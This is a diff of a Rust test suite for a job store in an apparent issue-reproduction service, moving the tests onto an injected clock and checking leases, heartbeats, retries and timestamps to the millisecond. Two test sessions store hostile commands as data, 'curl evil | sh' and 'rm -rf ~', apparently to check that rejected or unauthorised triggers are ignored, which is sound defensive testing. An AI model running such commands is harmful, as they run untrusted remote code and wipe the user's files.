@@ -4,12 +4,36 @@ mod support;
 
 use std::time::Duration;
 
-use chrono::Utc;
+use chrono::{DateTime, TimeZone, Utc};
 use patchpilot::store::{
     DeliveryRecord, InstallationChange, Intake, IntakeEffect, JobOutcome, Recorded, SessionFilter,
-    SessionPatch,
+    SessionPatch, Store,
 };
 use patchpilot::store::{EventLevel, NewSession, SessionStatus, TriggerKind};
+
+/// The instant the timing tests start their store's clock at. It is years in the past, so a
+/// "now" the store took from the wall clock instead would be far off and fail them.
+fn t0() -> DateTime<Utc> {
+    Utc.with_ymd_and_hms(2001, 2, 3, 4, 5, 6).unwrap()
+}
+
+/// `ms` milliseconds after [`t0`] (negative: before).
+fn at_ms(ms: i64) -> DateTime<Utc> {
+    t0() + chrono::Duration::milliseconds(ms)
+}
+
+/// Claims every job that is due now, in order; returns (kind, session id) of each.
+async fn claim_all(store: &dyn Store, owner: &str) -> Vec<(String, Option<String>)> {
+    let mut claimed = Vec::new();
+    while let Some(job) = store
+        .claim_job(owner, Duration::from_secs(60))
+        .await
+        .unwrap()
+    {
+        claimed.push((job.kind, job.session_id));
+    }
+    claimed
+}
 
 fn delivery(id: &str, event: &str) -> DeliveryRecord {
     DeliveryRecord {
@@ -68,7 +92,7 @@ on_both_backends! {
         assert_eq!(stored.session_id.as_deref(), Some(id.as_str()));
         assert_eq!(stored.record.repository.as_deref(), Some("octo/hello"));
 
-        let job = db.store.claim_job("w1", Duration::from_secs(60), Utc::now()).await.unwrap().unwrap();
+        let job = db.store.claim_job("w1", Duration::from_secs(60)).await.unwrap().unwrap();
         assert_eq!(job.kind, "session");
         assert_eq!(job.session_id.as_deref(), Some(id.as_str()));
         assert_eq!(job.attempts, 1);
@@ -108,7 +132,7 @@ on_both_backends! {
         let sessions = db.store.list_sessions(&SessionFilter::default()).await.unwrap();
         assert_eq!(sessions.len(), 2, "{sessions:?}");
         let mut claimed = Vec::new();
-        while let Some(job) = db.store.claim_job("w", Duration::from_secs(60), Utc::now()).await.unwrap() {
+        while let Some(job) = db.store.claim_job("w", Duration::from_secs(60)).await.unwrap() {
             claimed.push((job.kind, job.session_id.is_some(), job.payload));
         }
         claimed.sort_by_key(|job| job.2.to_string());
@@ -134,7 +158,7 @@ on_both_backends! {
         assert_eq!(stored.outcome, "ignored: event star");
         db.store.set_delivery_outcome("d-9", "rejected").await.unwrap();
         assert_eq!(db.store.get_delivery("d-9").await.unwrap().unwrap().outcome, "rejected");
-        assert!(db.store.claim_job("w", Duration::from_secs(5), Utc::now()).await.unwrap().is_none());
+        assert!(db.store.claim_job("w", Duration::from_secs(5)).await.unwrap().is_none());
     }
 
     async fn command_job_carries_its_payload(db) {
@@ -144,7 +168,7 @@ on_both_backends! {
             effect: IntakeEffect::Job { kind: "command".to_owned(), payload: serde_json::json!({"cmd": "help"}) },
         };
         db.store.record_deliveries(&[intake]).await.unwrap();
-        let job = db.store.claim_job("w", Duration::from_secs(5), Utc::now()).await.unwrap().unwrap();
+        let job = db.store.claim_job("w", Duration::from_secs(5)).await.unwrap().unwrap();
         assert_eq!(job.kind, "command");
         assert_eq!(job.payload, serde_json::json!({"cmd": "help"}));
         assert_eq!(job.session_id, None);
@@ -229,73 +253,150 @@ on_both_backends! {
         assert_eq!(rest[0].step, "reproduce");
     }
 
-    async fn jobs_lease_heartbeat_retry_and_expiry(db) {
+    async fn a_lease_expires_exactly_when_the_clock_passes_it(db) {
+        db.clock.set(t0());
         let id = db.store.enqueue_job("session", None, &serde_json::json!({})).await.unwrap();
-        let now = Utc::now();
-        let job = db.store.claim_job("w1", Duration::from_secs(30), now).await.unwrap().unwrap();
-        assert_eq!(job.id, id);
-        assert!(db.store.claim_job("w2", Duration::from_secs(30), now).await.unwrap().is_none(), "leased");
-        assert!(db.store.heartbeat(id, "w1", Duration::from_secs(30)).await.unwrap());
-        assert!(!db.store.heartbeat(id, "w2", Duration::from_secs(30)).await.unwrap(), "not w2's lease");
+        let lease = Duration::from_secs(30);
+        let job = db.store.claim_job("w1", lease).await.unwrap().unwrap();
+        assert_eq!((job.id, job.attempts), (id, 1));
+        assert!(db.store.claim_job("w2", lease).await.unwrap().is_none(), "leased");
 
-        // A worker that died: its lease expires and another worker takes the job over.
-        let later = Utc::now() + chrono::Duration::seconds(120);
-        let taken = db.store.claim_job("w2", Duration::from_secs(30), later).await.unwrap().unwrap();
-        assert_eq!((taken.id, taken.attempts), (id, 2));
-        assert!(!db.store.heartbeat(id, "w1", Duration::from_secs(30)).await.unwrap(), "w1 lost it");
-
-        db.store.finish_job(id, "w2", &JobOutcome::Retry { after: Duration::from_secs(60), error: "github 502".into() }).await.unwrap();
-        assert!(db.store.claim_job("w3", Duration::from_secs(30), Utc::now()).await.unwrap().is_none(), "not yet");
-        let retried = db.store.claim_job("w3", Duration::from_secs(30), later).await.unwrap().unwrap();
-        assert_eq!(retried.attempts, 3);
-        db.store.finish_job(id, "w3", &JobOutcome::Done).await.unwrap();
-        let far = Utc::now() + chrono::Duration::days(1);
-        assert!(db.store.claim_job("w4", Duration::from_secs(30), far).await.unwrap().is_none(), "done is final");
+        // w1 died without a word: its lease runs to 30 s and not a moment less.
+        db.clock.set(at_ms(29_999));
+        assert!(db.store.claim_job("w2", lease).await.unwrap().is_none(), "1 ms before the deadline");
+        db.clock.set(at_ms(30_000));
+        assert!(db.store.claim_job("w2", lease).await.unwrap().is_none(), "at the deadline the lease still holds");
+        db.clock.set(at_ms(30_001));
+        let taken = db.store.claim_job("w2", lease).await.unwrap().unwrap();
+        assert_eq!((taken.id, taken.attempts), (id, 2), "another worker takes the job over");
+        assert!(!db.store.heartbeat(id, "w1", lease).await.unwrap(), "w1 lost it");
+        // w2's lease is measured from its own claim: to 60.001 s.
+        db.clock.set(at_ms(60_001));
+        assert!(db.store.claim_job("w3", lease).await.unwrap().is_none(), "w2's lease runs to 60.001 s");
+        db.clock.set(at_ms(60_002));
+        assert_eq!(db.store.claim_job("w3", lease).await.unwrap().unwrap().attempts, 3);
     }
 
-    async fn leases_heartbeats_and_retries_follow_the_given_time(db) {
-        // No wall clock involved: "now" is whatever the caller says (the injected clock).
+    async fn a_heartbeat_extends_the_lease_from_the_clocks_now(db) {
+        db.clock.set(t0());
         let id = db.store.enqueue_job("session", None, &serde_json::json!({})).await.unwrap();
-        let t0 = Utc::now() + chrono::Duration::days(10);
-        let at = |secs: i64| t0 + chrono::Duration::seconds(secs);
         let lease = Duration::from_secs(30);
-        db.store.claim_job("w1", lease, at(0)).await.unwrap().unwrap();
-        assert!(db.store.heartbeat_at(id, "w1", lease, at(25)).await.unwrap());
-        assert!(db.store.claim_job("w2", lease, at(40)).await.unwrap().is_none(), "the heartbeat at 25 s holds the lease to 55 s");
-        let taken = db.store.claim_job("w2", lease, at(56)).await.unwrap().unwrap();
-        assert_eq!(taken.attempts, 2);
-        db.store.finish_job_at(id, "w2", &JobOutcome::Retry { after: Duration::from_secs(60), error: "github 502".into() }, at(60)).await.unwrap();
-        assert!(db.store.claim_job("w3", lease, at(119)).await.unwrap().is_none(), "retry waits 60 s from 60 s");
-        assert!(db.store.claim_job("w3", lease, at(120)).await.unwrap().is_some());
+        db.store.claim_job("w1", lease).await.unwrap().unwrap();
+        db.clock.set(at_ms(25_000));
+        assert!(db.store.heartbeat(id, "w1", lease).await.unwrap());
+        assert!(!db.store.heartbeat(id, "w2", lease).await.unwrap(), "not w2's lease");
+
+        db.clock.set(at_ms(30_001));
+        assert!(db.store.claim_job("w2", lease).await.unwrap().is_none(), "past the first deadline, the heartbeat holds it");
+        db.clock.set(at_ms(55_000));
+        assert!(db.store.claim_job("w2", lease).await.unwrap().is_none(), "the heartbeat at 25 s holds the lease to 55 s");
+        db.clock.set(at_ms(55_001));
+        let taken = db.store.claim_job("w2", lease).await.unwrap().unwrap();
+        assert_eq!((taken.id, taken.attempts), (id, 2));
+        assert!(!db.store.heartbeat(id, "w1", lease).await.unwrap(), "a late heartbeat does not win the job back");
+    }
+
+    async fn a_retried_job_waits_for_its_back_off_on_the_clock(db) {
+        db.clock.set(t0());
+        let id = db.store.enqueue_job("session", None, &serde_json::json!({})).await.unwrap();
+        let lease = Duration::from_secs(30);
+        db.store.claim_job("w1", lease).await.unwrap().unwrap();
+        db.clock.set(at_ms(10_000));
+        let retry = JobOutcome::Retry { after: Duration::from_secs(60), error: "github 502".into() };
+        db.store.finish_job(id, "w1", &retry).await.unwrap();
+
+        db.clock.set(at_ms(69_999));
+        assert!(db.store.claim_job("w2", lease).await.unwrap().is_none(), "the back-off runs 60 s from 10 s");
+        db.clock.set(at_ms(70_000));
+        let retried = db.store.claim_job("w2", lease).await.unwrap().unwrap();
+        assert_eq!((retried.id, retried.attempts), (id, 2), "due once the back-off is over");
+
+        // A retry from someone who no longer holds the job changes nothing.
+        db.store.finish_job(id, "w1", &retry).await.unwrap();
+        db.clock.set(at_ms(70_000 + 29_999));
+        assert!(db.store.claim_job("w3", lease).await.unwrap().is_none(), "w2 still holds it");
+
+        db.store.finish_job(id, "w2", &JobOutcome::Done).await.unwrap();
+        db.clock.advance(Duration::from_secs(86_400));
+        assert!(db.store.claim_job("w4", lease).await.unwrap().is_none(), "done is final");
+    }
+
+    async fn sessions_events_jobs_and_installations_are_stamped_with_the_clocks_time(db) {
+        let command = |id: &str| Intake {
+            delivery: delivery(id, "issue_comment"),
+            outcome: "command".to_owned(),
+            effect: IntakeEffect::Job { kind: "command".to_owned(), payload: serde_json::json!({"cmd": id}) },
+        };
+        let install = Intake {
+            delivery: delivery("i-1", "installation"),
+            outcome: "installation".to_owned(),
+            effect: IntakeEffect::Installation(InstallationChange::Upsert { installation_id: 7, account: "octo".into(), repositories: vec!["octo/hello".into()] }),
+        };
+        // The API path, a group commit's fast path, and the portable path an installation
+        // change takes, each at its own time.
+        db.clock.set(t0());
+        let api = db.store.create_session(issue_session(1)).await.unwrap();
+        assert_eq!((api.created_at, api.updated_at), (t0(), t0()));
+        db.clock.set(at_ms(1_000));
+        let fast = db.store.record_deliveries(&[start("d-1", 2), command("c-1")]).await.unwrap();
+        let Recorded::Accepted { session_id: Some(fast) } = &fast[0] else { panic!("{fast:?}") };
+        db.clock.set(at_ms(2_000));
+        let portable = db.store.record_deliveries(&[start("d-2", 3), install]).await.unwrap();
+        let Recorded::Accepted { session_id: Some(portable) } = &portable[0] else { panic!("{portable:?}") };
+        let created = |s: patchpilot::store::Session| (s.created_at, s.updated_at);
+        assert_eq!(created(db.store.get_session(fast).await.unwrap().unwrap()), (at_ms(1_000), at_ms(1_000)));
+        assert_eq!(created(db.store.get_session(portable).await.unwrap().unwrap()), (at_ms(2_000), at_ms(2_000)));
+        assert_eq!(db.store.get_installation(7).await.unwrap().unwrap().updated_at, at_ms(2_000));
+
+        db.clock.set(at_ms(3_000));
+        db.store.update_session(&api.id, &SessionPatch { status: Some(SessionStatus::Running), ..Default::default() }).await.unwrap();
+        assert_eq!(created(db.store.get_session(&api.id).await.unwrap().unwrap()), (t0(), at_ms(3_000)));
+        db.clock.set(at_ms(4_000));
+        assert!(db.store.request_cancel(&api.id).await.unwrap());
+        assert_eq!(db.store.get_session(&api.id).await.unwrap().unwrap().updated_at, at_ms(4_000));
+        db.clock.set(at_ms(5_000));
+        db.store.append_event(&api.id, "reproduce", EventLevel::Info, "started").await.unwrap();
+        let events = db.store.events_after(&api.id, 0, 10).await.unwrap();
+        assert_eq!(events.iter().map(|e| e.at).collect::<Vec<_>>(), [at_ms(5_000)]);
+
+        // Every job is due from the time it was queued, not before.
+        db.clock.set(at_ms(-1));
+        assert!(db.store.claim_job("w", Duration::from_secs(60)).await.unwrap().is_none(), "nothing is due before it was queued");
+        db.clock.set(at_ms(999));
+        assert_eq!(claim_all(db.store.as_ref(), "w").await, [("session".to_owned(), Some(api.id.clone()))]);
+        db.clock.set(at_ms(1_999));
+        assert_eq!(claim_all(db.store.as_ref(), "w").await, [("session".to_owned(), Some(fast.clone())), ("command".to_owned(), None)]);
+        db.clock.set(at_ms(2_000));
+        assert_eq!(claim_all(db.store.as_ref(), "w").await, [("session".to_owned(), Some(portable.clone()))]);
     }
 
     async fn reconciliation_settles_lost_jobs_and_jobs_of_ended_sessions(db) {
         use patchpilot::store::{SETTLE_KEY, ORPHANED_SESSION_REASON};
-        let now = Utc::now();
+        db.clock.set(t0());
         // A healthy session with its queued job: left alone.
         let healthy = db.store.create_session(issue_session(1)).await.unwrap();
         // A command job belongs to no session (its NULL must not hide the orphans).
         db.store.enqueue_job("command", None, &serde_json::json!({})).await.unwrap();
         // A running session whose job row is gone (a crash, an operator's cleanup).
         let orphan = db.store.create_session(issue_session(2)).await.unwrap();
-        let job = db.store.claim_session_job(&orphan.id, "w", Duration::from_secs(60), now).await.unwrap().unwrap();
+        let job = db.store.claim_session_job(&orphan.id, "w", Duration::from_secs(60)).await.unwrap().unwrap();
         db.store.update_session(&orphan.id, &SessionPatch { status: Some(SessionStatus::Running), ..SessionPatch::default() }).await.unwrap();
-        db.store.finish_job_at(job.id, "w", &JobOutcome::Done, now).await.unwrap();
+        db.store.finish_job(job.id, "w", &JobOutcome::Done).await.unwrap();
         // An ended session whose job is still queued, and one whose running job's lease ran out.
         let ended = db.store.create_session(issue_session(3)).await.unwrap();
         db.store.update_session(&ended.id, &SessionPatch { status: Some(SessionStatus::Failed), ..SessionPatch::default() }).await.unwrap();
         let ended_live = db.store.create_session(issue_session(4)).await.unwrap();
-        db.store.claim_session_job(&ended_live.id, "alive", Duration::from_secs(600), now).await.unwrap().unwrap();
+        db.store.claim_session_job(&ended_live.id, "alive", Duration::from_secs(600)).await.unwrap().unwrap();
         db.store.update_session(&ended_live.id, &SessionPatch { status: Some(SessionStatus::Succeeded), ..SessionPatch::default() }).await.unwrap();
 
-        let done = db.store.reconcile(now).await.unwrap();
+        let done = db.store.reconcile().await.unwrap();
         assert_eq!(done.orphaned_sessions, vec![orphan.id.clone()]);
         assert_eq!(done.jobs_of_ended_sessions, 1, "the queued job of the failed session; the live lease is left to its worker");
 
         // The settle job is what a worker claims next for the orphan, and it says why.
         let mut claimed = Vec::new();
-        let soon = now + chrono::Duration::seconds(1);
-        while let Some(job) = db.store.claim_job("w2", Duration::from_secs(60), soon).await.unwrap() {
+        db.clock.set(at_ms(1_000));
+        while let Some(job) = db.store.claim_job("w2", Duration::from_secs(60)).await.unwrap() {
             claimed.push(job);
         }
         let settle = claimed.iter().find(|j| j.session_id.as_deref() == Some(orphan.id.as_str())).expect("a settle job for the orphan");
@@ -304,21 +405,24 @@ on_both_backends! {
         assert!(!claimed.iter().any(|j| j.session_id.as_deref() == Some(ended.id.as_str())), "the ended session's job is settled, not run");
 
         // A second pass (another replica) finds nothing new: the settle job counts as the job.
-        let again = db.store.reconcile(now).await.unwrap();
+        let again = db.store.reconcile().await.unwrap();
         assert!(again.orphaned_sessions.is_empty(), "{again:?}");
-        // Once the lease on the ended session's job runs out, that job is settled too.
-        let later = now + chrono::Duration::seconds(601);
-        let late = db.store.reconcile(later).await.unwrap();
+        // Once the lease on the ended session's job runs out (600 s after it was taken), that
+        // job is settled too, and not before.
+        db.clock.set(at_ms(600_000));
+        assert_eq!(db.store.reconcile().await.unwrap().jobs_of_ended_sessions, 0, "the lease runs to 600 s");
+        db.clock.set(at_ms(600_001));
+        let late = db.store.reconcile().await.unwrap();
         assert_eq!(late.jobs_of_ended_sessions, 1, "{late:?}");
     }
 
     async fn a_sessions_own_job_can_be_claimed_directly(db) {
         let first = db.store.create_session(issue_session(1)).await.unwrap();
         let second = db.store.create_session(issue_session(2)).await.unwrap();
-        let job = db.store.claim_session_job(&second.id, "cli", Duration::from_secs(60), Utc::now()).await.unwrap().unwrap();
+        let job = db.store.claim_session_job(&second.id, "cli", Duration::from_secs(60)).await.unwrap().unwrap();
         assert_eq!((job.session_id.as_deref(), job.attempts), (Some(second.id.as_str()), 1));
-        assert!(db.store.claim_session_job(&second.id, "cli", Duration::from_secs(60), Utc::now()).await.unwrap().is_none(), "already claimed");
-        let other = db.store.claim_job("w", Duration::from_secs(60), Utc::now()).await.unwrap().unwrap();
+        assert!(db.store.claim_session_job(&second.id, "cli", Duration::from_secs(60)).await.unwrap().is_none(), "already claimed");
+        let other = db.store.claim_job("w", Duration::from_secs(60)).await.unwrap().unwrap();
         assert_eq!((other.session_id.as_deref(), other.attempts), (Some(first.id.as_str()), 1), "the other session's job is untouched");
     }
 
@@ -331,7 +435,7 @@ on_both_backends! {
             let store = db.store.clone();
             handles.push(tokio::spawn(async move {
                 let mut mine = Vec::new();
-                while let Some(job) = store.claim_job(&format!("w{w}"), Duration::from_secs(60), Utc::now()).await.unwrap() {
+                while let Some(job) = store.claim_job(&format!("w{w}"), Duration::from_secs(60)).await.unwrap() {
                     mine.push(job.id);
                 }
                 mine
@@ -375,13 +479,15 @@ on_both_backends! {
             repro_command: Some(repro.to_owned()),
             ..Default::default()
         };
+        // "Latest" is by creation time: each session is a second younger than the one before.
+        db.clock.set(t0());
         let approved = store.create_session(issue_session(8)).await.unwrap();
         store.update_session(&approved.id, &set(SessionStatus::NotReproduced, "pytest -k a")).await.unwrap();
-        tokio::time::sleep(Duration::from_millis(5)).await;
+        db.clock.advance(Duration::from_secs(1));
         // A non-writer's trigger (rejected) and one not yet authorised (queued) do not count.
         let rejected = store.create_session(issue_session(8)).await.unwrap();
         store.update_session(&rejected.id, &set(SessionStatus::Rejected, "curl evil | sh")).await.unwrap();
-        tokio::time::sleep(Duration::from_millis(5)).await;
+        db.clock.advance(Duration::from_secs(1));
         let queued = store.create_session(issue_session(8)).await.unwrap();
         store.update_session(&queued.id, &set(SessionStatus::Queued, "rm -rf ~")).await.unwrap();
         let other_issue = store.create_session(issue_session(9)).await.unwrap();
